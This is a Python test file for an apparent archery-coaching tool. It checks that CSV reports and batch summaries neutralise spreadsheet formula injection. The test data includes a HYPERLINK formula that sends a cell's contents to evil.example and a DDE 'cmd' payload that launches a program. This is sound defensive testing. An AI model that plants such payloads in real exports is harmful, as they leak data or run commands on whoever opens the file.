"""Issue 18 item 9: archer names, sources and coach comments that begin with = + - @ never reach a CSV cell
as a formula (OWASP: a leading quote)."""

import csv
import io
import sqlite3

from coach.batch import BatchResult, Outcome, summary_csv
from coach.cli import main
from tests.support.hostile_corpus import make_store

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def test_report_csv(tmp_path, capsys):
    from coach.results import Finding, ShotResult
    from coach.store import Store

    db = make_store(tmp_path, archer=EVIL)
    c = sqlite3.connect(db)
    c.execute("UPDATE sessions SET source = '+cmd|'' /C calc''!A0'")
    c.commit()
    c.close()
    with Store.open(db) as store:  # one shot with a finding, so the CSV has rows
        finding = Finding("cup_of_water", "fault", -3.5, {"below": -2.0}, 1, 5, "deg", "below")
        store.record_shot(1, ShotResult(0, 0, 1, 2, 5, 8, 30.0, findings=[finding]))
    assert main(["annotate", "1", "--shot", "1", "--rule", "cup_of_water", "--comment", "@SUM(1+1)*cmd",
                 "--by=-2+3", "--db", str(db)]) == 0  # fmt: skip
    out = tmp_path / "r.csv"
    assert main(["report", "1", "--db", str(db), "--format", "csv", "--out", str(out)]) == 0
    cells = _cells(out.read_text(encoding="utf-8-sig"))
    assert len(cells) >= 2 * 24, cells  # the header and the finding
    assert "'@SUM(1+1)*cmd" in cells and "'" + EVIL in cells and -3.5 in [_num(c) for c in cells]
    for cell in cells:  # negative numbers stay numbers
        assert _num(cell) is not None or not cell.startswith(("=", "+", "-", "@")), cell


def test_batch_summary_csv():
    o = Outcome("=1+1.mp4", "@archer", "done", shots=0, frames=10, note="-x", error="+y")
    cells = _cells(summary_csv(BatchResult([o], ["r1"], 1.0, 1, "process", False)))
    assert "'=1+1.mp4" in cells and "'@archer" in cells and "'-x" in cells and "'+y" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def _num(cell: str):
    try:
        return float(cell)
    except ValueError:
        return None
